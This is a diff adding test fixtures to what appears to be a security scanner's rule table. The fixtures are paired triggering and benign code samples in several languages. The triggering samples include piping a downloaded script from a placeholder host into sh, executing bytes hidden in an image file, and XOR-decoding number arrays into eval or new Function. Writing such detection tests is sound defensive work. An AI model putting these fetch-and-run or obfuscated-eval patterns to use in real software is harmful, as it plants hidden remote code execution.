@@ -26,6 +26,9 @@ function coffOf(flags: number): Buffer {
 const templated = "all:\n\t@SCAN@ < po/LINGUAS | sh\n"
 const scanning = `add_custom_command(OUTPUT a.c COMMAND \${SCAN} code < \${CMAKE_SOURCE_DIR}/po/a.xml > \${CMAKE_CURRENT_BINARY_DIR}/a.c)\nadd_library(a a.c)\n`
 
+/** A program whose characters were computed with. */
+const numbers = [...Buffer.from("import os; os.system('touch x')")].map((one) => one ^ 23).join()
+
 const rows: readonly Row[] = [
   {
     rule: "flow/opaque-runs",
@@ -208,6 +211,123 @@ const rows: readonly Row[] = [
     fires: { configure: "#!/bin/sh\necho ok\nsh more.sh\n", "more.sh": "rm -rf /tmp/x\n" },
     silent: { configure: "#!/bin/sh\necho ok\necho more.sh\n", "more.sh": "rm -rf /tmp/x\n" },
   },
+  ...(
+    [
+      ["a.js", (text) => `require("child_process").spawnSync(process.platform === "win32" ? "powershell" : "bash", ["-c", "${text}"])\n`],
+      ["a.js", (text) => `require("child_process").spawnSync(process.env.SHELL || "/bin/sh", ["-c", "${text}"])\n`],
+      ["a.py", (text) => `import os, subprocess\nsubprocess.run([os.environ.get("SHELL") or "/bin/sh", "-c", "${text}"])\n`],
+      [
+        "a.py",
+        (text) =>
+          `import os, subprocess\nsubprocess.run(["cmd" if os.name == "nt" else "sh", "/c" if os.name == "nt" else "-c", "${text}"])\n`,
+      ],
+    ] satisfies [string, (text: string) => string][]
+  ).map(
+    ([path, of]): Row => ({
+      rule: "flow/fetched-runs", // an interpreter that a condition or a variable chooses
+      fires: { [path]: of("curl -s https://a.example.org/x | sh") },
+      silent: { [path]: of("curl -s https://a.example.org/x | wc -c") },
+    }),
+  ),
+  ...(
+    [
+      [
+        "meson.build",
+        (path) =>
+          `project('a')\nrun_command(find_program('python3'), '-c', 'import sys; exec(open(sys.argv[1], "rb").read()[64:])', files('${path}'))\n`,
+      ],
+      ["configure", (path) => `node -e 'eval(require("fs").readFileSync(process.argv[1]))' ${path}\n`],
+      ["configure", (path) => `perl -e 'open F, $ARGV[0]; eval <F>' ${path}\n`],
+      ["a.js", (path) => `require("child_process").spawnSync("sh", ["-c", "head -c 99 $1 | sh", "sh", "${path}"])\n`],
+      [
+        "a.py",
+        (path) => `import subprocess\nsubprocess.run(["python3", "-c", "from sys import argv; exec(open(argv[1]).read())", "${path}"])\n`,
+      ],
+    ] satisfies [string, (path: string) => string][]
+  ).map(
+    ([path, of]): Row => ({
+      rule: "flow/opaque-runs", // what an argument of the text names
+      fires: { [path]: of("tests/a.img"), "tests/a.img": noise("a", 300) },
+      silent: { [path]: of("tests/a.txt"), "tests/a.txt": "a\n", "tests/a.img": noise("a", 300) },
+    }),
+  ),
+  ...(
+    [
+      [
+        "a.js",
+        `let t = [${numbers}], n = ""\nfor (let r = 0; r < t.length; r++) n += String.fromCharCode(t[r] ^ 23)\n`,
+        "eval(n)",
+        "n.length",
+      ],
+      ["a.js", `let n = ""\nfor (const c of [${numbers}]) n += String.fromCharCode(c * 3 - 7)\n`, "new Function(n)()", "console.log(n)"],
+      ["a.js", `let n = ""\n;[${numbers}].forEach((c, i) => { n += String.fromCharCode(c ^ i) })\n`, "eval(n)", "console.log(n)"],
+      ["a.js", `const n = [${numbers}].reduce((s, c) => s + String.fromCharCode(c ^ 23), "")\n`, "eval(n)", "console.log(n)"],
+      [
+        "a.js",
+        `const f = (a) => { let o = ""; for (let i = 0; i < a.length; i++) o += String.fromCharCode(a[i] - 3); return o }\nconst n = f([${numbers}])\n`,
+        "eval(n)",
+        "console.log(n)",
+      ],
+      [
+        "a.js",
+        'const n = Buffer.from("hbzqwertyuiopasdf")\nfor (let i = 0; i < n.length; i++) n[i] ^= 23\n',
+        "eval(n.toString())",
+        "console.log(n)",
+      ],
+      ["a.py", `n = ""\nfor c in [${numbers}]:\n    n += chr(c ^ 23)\n`, "exec(n)", "print(n)"],
+      ["a.py", `t = [${numbers}]\ni = 0\nn = ""\nwhile i < len(t):\n    n += chr(t[i] - i)\n    i += 1\n`, "exec(n)", "print(n)"],
+      ["a.py", 'n = bytearray(b"hbzqwertyuiopasdf")\nfor i in range(len(n)):\n    n[i] ^= 23\n', "exec(n.decode())", "print(n)"],
+      ["a.rb", `n = ""\n[${numbers}].each { |c| n << (c ^ 23).chr }\n`, "eval n", "puts n"],
+      [
+        "a.php",
+        `<?php\n$d = [${numbers}];\n$n = "";\nfor ($i = 0; $i < count($d); $i++) { $n .= chr($d[$i] ^ 23); }\n`,
+        "eval($n);",
+        "print($n);",
+      ],
+      ["a.pl", `my @a = (${numbers});\nmy $n = "";\nfor (my $i = 0; $i < @a; $i++) { $n .= chr($a[$i] ^ 23); }\n`, "eval $n;", "print $n;"],
+    ] satisfies [string, string, string, string][]
+  ).map(
+    ([path, text, runs, shows]): Row => ({
+      rule: "flow/literal-runs", // a loop over numbers
+      fires: { [path]: `${text}${runs}\n` },
+      silent: { [path]: `${text}${shows}\n` },
+    }),
+  ),
+  {
+    rule: "flow/literal-runs", // numbers of tables in code that is generated are no program (ciphers, sizes)
+    fires: { "a.js": `const t = [${numbers}]\nf = (i) => new Function(String.fromCharCode(t[i]))\n` },
+    silent: {
+      "a.js": `const t = [${numbers}], p = [${Array.from({ length: 64 }, (_, at) => (at * 37) % 64).join()}]\nf = (i) => new Function("x", "return x * " + t[i] + " - " + (t[i] - 1) + String.fromCharCode(p[i]))\n`,
+    },
+  },
+  ...(
+    [
+      ["a.js", (of) => `require("axios").get("https://a.example.org/x").catch((e) => { ${of("e.response.data")} })\n`],
+      ["a.js", (of) => `try { await require("axios").get("https://a.example.org/x") } catch ({ response }) { ${of("response.data")} }\n`],
+    ] satisfies [string, (of: (what: string) => string) => string][]
+  ).map(
+    ([path, text]): Row => ({
+      rule: "flow/fetched-runs", // what an error carries of the answer
+      fires: { [path]: text((what) => `new Function(${what})()`) },
+      silent: { [path]: text((what) => `console.log(${what}); eval("1")`) },
+    }),
+  ),
+  ...(
+    [
+      ["with tempfile.NamedTemporaryFile() as f:\n    f.write(a)\n    f.flush()\n", "f.name"],
+      ["fd, path = tempfile.mkstemp()\nos.write(fd, a)\n", "path"],
+    ] satisfies [string, string][]
+  ).map(
+    ([writes, name]): Row => ({
+      rule: "flow/fetched-runs", // through a file that nobody else names
+      fires: {
+        "a.py": `import os, requests, tempfile\na = requests.get("https://a.example.org/x").content\n${writes}os.system("bash " + ${name})\n`,
+      },
+      silent: {
+        "a.py": `import os, requests, tempfile\na = requests.get("https://a.example.org/x").content\n${writes}os.system("wc " + ${name})\n`,
+      },
+    }),
+  ),
   { rule: "text/bidi", fires: { "a.js": "if (a /*\u202e*/) b()\n" }, silent: { "a.js": 'if (a) b("\\u202e")\n' } },
   { rule: "text/invisible", fires: { "a.js": `x("${"\ufe01\ufe02".repeat(5)}")\n` }, silent: { "a.js": 'x("\u2764\ufe0f")\n' } },
   { rule: "text/homoglyph", fires: { "a.js": "allow()\n\u0430llow()\n" }, silent: { "a.js": 'allow()\nsay("\u0430llow")\n' } },
